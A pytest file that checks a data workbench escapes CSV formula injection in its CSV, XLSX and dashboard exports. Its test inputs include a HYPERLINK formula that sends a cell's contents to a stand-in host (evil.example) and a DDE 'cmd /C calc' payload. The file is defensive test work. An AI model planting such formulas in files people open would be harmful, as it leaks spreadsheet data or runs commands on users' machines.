"""CSV formula injection: text a spreadsheet would run as a formula is escaped with a leading quote (OWASP),
wherever the workbench writes CSV for people (`--out x.csv`, write_table, csv_bytes); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import polars as pl
import pytest
from model_fixtures import small_model
from typer.testing import CliRunner

from workbench.cli import app
from workbench.interchange.tables import csv_bytes, write_table
from workbench.workspace import Workspace

PLANTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # UTF-8 with a BOM, for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _both(frame: pl.DataFrame, tmp_path: Path) -> list[list[str]]:
    """The cells of ``frame`` as written by write_table, checked to be byte for byte what csv_bytes gives."""
    path = write_table(frame, tmp_path / "t.csv")
    assert path.read_bytes() == csv_bytes(frame)
    return _cells(path.read_bytes())


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(tmp_path, lead):
    value = f"{lead}cmd|' /C calc'!A0"
    assert _both(pl.DataFrame({"label": [value, "plain"]}), tmp_path) == [["label"], [f"'{value}"], ["plain"]]


def test_text_with_a_dash_inside_and_numbers_are_left_alone(tmp_path):
    frame = pl.DataFrame({"label": ["I move - and pay", "a=b", "x@y.com", "", None],
                          "delta": [-3, 0, 5, -1, None], "share": [-0.25, 0.5, None, -1e-9, 2.0]})
    assert _both(frame, tmp_path) == [
        ["label", "delta", "share"],
        ["I move - and pay", "-3", "-0.25"],
        ["a=b", "0", "0.5"],
        ["x@y.com", "5", ""],
        ["", "-1", "-1e-9"],
        ["", "", "2.0"],
    ]


def test_a_negative_number_as_text_is_text_and_escaped(tmp_path):
    # a text column is text: "-3" there is escaped like any text; numeric columns are never touched
    assert _both(pl.DataFrame({"code": ["-3"], "n": [-3]}), tmp_path) == [["code", "n"], ["'-3", "-3"]]


def test_list_columns_categoricals_and_column_names_are_escaped(tmp_path):
    frame = pl.DataFrame({"path": [["=evil", "b"], ["b", "=evil"]], "@who": ["ok", "ok"],
                          "segment": pl.Series(["+31 6", "seniors"], dtype=pl.Categorical)})
    assert _both(frame, tmp_path) == [["path", "'@who", "segment"],
                                      ["'=evil → b", "ok", "'+31 6"],
                                      ["b → =evil", "ok", "seniors"]]


def test_a_planted_label_reaches_the_cli_csv_escaped(tmp_path):
    model = small_model()
    model.rename("reasons", "place-order", PLANTED)  # an editor renames a reason
    ws = tmp_path / "ws"
    Workspace.create(ws, model=model).close()
    out = tmp_path / "deps.csv"
    result = CliRunner().invoke(app, ["dependencies", str(ws), "--journey", "i-join", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_bytes())
    header = rows[0]
    labels = [row[header.index("reason_label")] for row in rows[1:]]
    assert labels == ["I compare offers", f"'{PLANTED}"]
    assert [row[header.index("steps")] for row in rows[1:]] == ["1", "1"]


def test_a_planted_label_stays_text_in_a_cli_workbook(tmp_path):
    model = small_model()
    model.rename("reasons", "place-order", PLANTED)
    ws = tmp_path / "ws"
    Workspace.create(ws, model=model).close()
    out = tmp_path / "impact.xlsx"
    result = CliRunner().invoke(app, ["impact", str(ws), "--system", "crm", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        strings = book.read("xl/sharedStrings.xml").decode()
    assert len(sheets) == 4 and not any("<f>" in sheet for sheet in sheets)  # no cell is a formula
    assert "HYPERLINK" in strings


def test_the_dashboard_downloads_escape_formulas_too():
    """A reason renamed to a formula reaches a colleague's spreadsheet as text (failed before: raw CSV)."""
    from workbench.ui.exports import export_buttons

    frame = pl.DataFrame({"label": ['=HYPERLINK("http://evil.example","x")', "I pay"], "volume": [-3, 4]})
    csv_button = export_buttons(lambda: frame, "reasons")[0]
    rows = list(csv.reader(io.StringIO(csv_button.callback().read().decode("utf-8-sig"))))
    assert rows == [["label", "volume"], ['\'=HYPERLINK("http://evil.example","x")', "-3"], ["I pay", "4"]]
